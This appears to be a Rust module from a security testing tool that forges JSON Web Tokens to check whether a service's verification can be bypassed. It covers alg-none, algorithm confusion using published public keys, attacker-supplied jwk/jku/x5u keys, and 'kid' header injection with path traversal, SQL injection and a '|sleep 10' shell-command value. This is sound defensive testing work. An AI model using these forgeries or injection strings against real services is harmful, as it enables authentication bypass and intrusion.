//! JSON Web Tokens whose header asks for a wrong kind of verification (RFC 8725 §2).

use std::time::Duration;

use authlab_client::{request::Request, visitor::Visitor};
use base64::{Engine as _, engine::general_purpose::URL_SAFE_NO_PAD};
use serde_json::{Value, json};
use tokio::{net::TcpListener, time::timeout};

use super::{Attempt, Ended, Played, fell_if, forgery::passes, not_applicable, not_applicable_if};
use crate::forge::{self, Hash, Token};

/// A key of the attacker.
const OWN_KEY: &[u8] = b"a key that the attacker has made for this very purpose";

/// The victim, and the token in parts.
async fn victim(attempt: &Attempt) -> Result<(Visitor, Token), Ended> {
    let no_token = "its credential has no header that could say anything";
    not_applicable_if(!attempt.is("token"), no_token)?;
    let victim = attempt.person("victim").await?;
    let token = Token::parse(victim.credential.text()).ok_or_else(|| not_applicable(no_token))?;
    Ok((victim, token))
}

pub(super) async fn alg_none(attempt: &mut Attempt) -> Played {
    let (victim, genuine) = victim(attempt).await?;
    let (_, signature) = victim.credential.text().rsplit_once('.').unwrap_or_default();
    let mut forgeries = Vec::new();
    for alg in [json!("none"), json!("None"), json!("NONE"), json!("nOnE"), json!(""), Value::Null] {
        let token = genuine.with_header("alg", alg);
        forgeries.extend([token.with_signature(""), token.with_signature(signature), token.signing_input()]);
    }
    passes(attempt, &victim, forgeries, "a token without a signature passes").await
}

pub(super) async fn another_algorithm(attempt: &mut Attempt) -> Played {
    let (victim, genuine) = victim(attempt).await?;
    let says = |alg: &str| genuine.with_header("alg", json!(alg));
    let mut forgeries = Vec::new();
    if let Ok((_, key)) = attempt.leaked(&victim) {
        let hashes = [("HS384", Hash::S384), ("HS512", Hash::S512), ("hs256", Hash::S256)];
        forgeries.extend(hashes.map(|(alg, hash)| says(alg).signed(hash, &key)));
    }
    // A public key is public. If a service used it as an HMAC secret, everybody could sign tokens.
    let published = attempt.somebody("forger").once(Request::get("/.well-known/jwks.json")).await?;
    let public = public_keys(&published.json().unwrap_or_default());
    forgeries.extend(public.iter().map(|key| says("HS256").signed(Hash::S256, key)));
    let algorithms = ["RS256", "ES256", "EdDSA", "PS256", "HS256"];
    forgeries.extend(algorithms.map(|alg| says(alg).signed(Hash::S256, OWN_KEY)));
    passes(attempt, &victim, forgeries, "a token that names another algorithm passes").await
}

/// Each published key in the spellings in which services have used it as a secret.
fn public_keys(published: &Value) -> Vec<Vec<u8>> {
    let keys = published["keys"].as_array().into_iter().flatten();
    keys.flat_map(|key| {
        let members = ["n", "x", "y"].iter().filter_map(|member| key[*member].as_str());
        let raw = members.filter_map(|text| URL_SAFE_NO_PAD.decode(text).ok());
        raw.chain([key.to_string().into_bytes()]).collect::<Vec<_>>()
    })
    .collect()
}

pub(super) async fn key_id_injection(attempt: &mut Attempt) -> Played {
    let (victim, genuine) = victim(attempt).await?;
    let ids = [
        json!(""),
        json!("/dev/null"),
        json!("../../../../../../dev/null"),
        json!("x' UNION SELECT '1';--"),
        json!("|sleep 10"),
        json!("k".repeat(2_000)),
        json!("\u{0}"),
        json!(0),
        json!(["a"]),
        Value::Null,
    ];
    let mut forgeries = Vec::new();
    for id in ids {
        let token = genuine.with_header("kid", id);
        forgeries.extend([b"".as_slice(), b"1", OWN_KEY].map(|key| token.signed(Hash::S256, key)));
    }
    forgeries.push(genuine.without_header("kid").signed(Hash::S256, b""));
    passes(attempt, &victim, forgeries, "the key id chose the key").await
}

pub(super) async fn bring_your_own_key(attempt: &mut Attempt) -> Played {
    let (victim, genuine) = victim(attempt).await?;
    let listener = TcpListener::bind("127.0.0.1:0").await.map_err(anyhow::Error::from)?;
    let address = listener.local_addr().map_err(anyhow::Error::from)?;
    let own = json!({"kty": "oct", "k": URL_SAFE_NO_PAD.encode(OWN_KEY), "alg": "HS256"});
    let mut forgeries = Vec::new();
    for (member, value) in [
        ("jwk", own.clone()),
        ("jku", json!(format!("http://{address}/keys.json"))),
        ("x5u", json!(format!("http://{address}/key.pem"))),
        ("jku", json!(format!("http://authlab@{address}/keys.json"))),
        ("x5c", json!([URL_SAFE_NO_PAD.encode(OWN_KEY)])),
    ] {
        let token = genuine.with_header(member, value);
        forgeries.extend([&token, &token.without_header("kid")].map(|token| token.signed(Hash::S256, OWN_KEY)));
    }
    passes(attempt, &victim, forgeries, "a key that the token brought along was believed").await?;
    // A service that fetches a key from a URL in the token can be made to fetch other URLs too.
    let fetched = timeout(Duration::from_millis(200), listener.accept()).await.is_ok();
    fell_if(fetched, "a key was fetched from a URL in the token")
}

pub(super) async fn other_formats(attempt: &mut Attempt) -> Played {
    let (victim, genuine) = victim(attempt).await?;
    let whole = victim.credential.text();
    let parts: Vec<&str> = whole.split('.').collect();
    let (header, payload, signature) = (parts[0], parts[1], parts.get(2).copied().unwrap_or_default());
    let mut forgeries = vec![
        format!("{header}..{signature}"),
        format!("{header}.{payload}"),
        format!("{header}.{payload}.{signature}.{signature}.{signature}"),
        format!("{header}=.{payload}.{signature}"),
    ];
    if let Ok((_, key)) = attempt.leaked(&victim) {
        for (member, value) in [
            ("crit", json!(["exp"])),
            ("crit", json!(["x"])),
            ("crit", json!([])),
            ("b64", json!(false)),
            ("zip", json!("DEF")),
            ("cty", json!("JWT")),
            ("enc", json!("A256GCM")),
        ] {
            forgeries.push(genuine.with_header(member, value).signed(Hash::S256, &key));
        }
        // A nested token.
        forgeries.push(forge::sign(&forge::raw_input(&genuine.header.to_string(), whole), Hash::S256, &key));
    }
    passes(attempt, &victim, forgeries, "a token that asks for more than is understood passes").await
}
